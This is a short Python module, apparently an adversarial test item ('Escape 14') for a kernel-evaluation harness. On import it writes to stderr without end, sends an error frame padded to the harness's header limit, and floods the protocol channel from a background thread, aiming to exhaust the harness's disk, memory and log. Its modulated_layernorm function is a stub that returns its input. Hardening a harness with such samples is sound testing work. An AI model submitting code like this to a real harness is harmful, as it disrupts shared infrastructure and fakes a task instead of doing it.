"""Escape 14 (endless and oversized output): write to stderr without end, then answer the hello with an
error frame as large as the harness reads (a header of wire.HEADER_LIMIT bytes, almost all message),
then keep writing to the protocol channel for ever. Where nothing bounds them, the stderr file grows
on the harness's disk and is read back whole into its memory, and the message lands in the log."""
import json
import os
import signal
import struct
import sys
import threading

HEADER_LIMIT = 1 << 20  # registry.kernels.wire.HEADER_LIMIT: the largest header the harness accepts
CHUNK = b"escape-endless-output " * 4096


def _endless_stderr() -> str:
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # past the file-size limit a write fails instead of killing
    written = 0
    try:
        while True:
            written += os.write(2, CHUNK)
    except OSError as exc:
        return f"{written} bytes to stderr, then {exc.strerror}"


def _protocol_stream():
    for name in ("registry.kernels.worker", "__main__"):
        stream = getattr(sys.modules.get(name), "_PROTOCOL_OUT", None)
        if stream is not None:
            return stream
    raise RuntimeError("no worker protocol stream in this process")


def _error_frame(what: str) -> bytes:
    empty = json.dumps({"error": {"type": "EndlessOutput", "message": ""}, "tensors": []})
    message = f"wrote {what}; " + "x" * (HEADER_LIMIT - len(empty) - len(what) - 8)
    text = json.dumps({"error": {"type": "EndlessOutput", "message": message}, "tensors": []}).encode()
    assert len(text) <= HEADER_LIMIT
    return struct.pack("<Q", len(text)) + text


def _endless_protocol(stream) -> None:
    while True:
        stream.write(CHUNK)
        stream.flush()


stream = _protocol_stream()
stream.write(_error_frame(_endless_stderr()))
stream.flush()
threading.Thread(target=_endless_protocol, args=(stream,), daemon=True).start()


def modulated_layernorm(x, scale, shift):
    return x
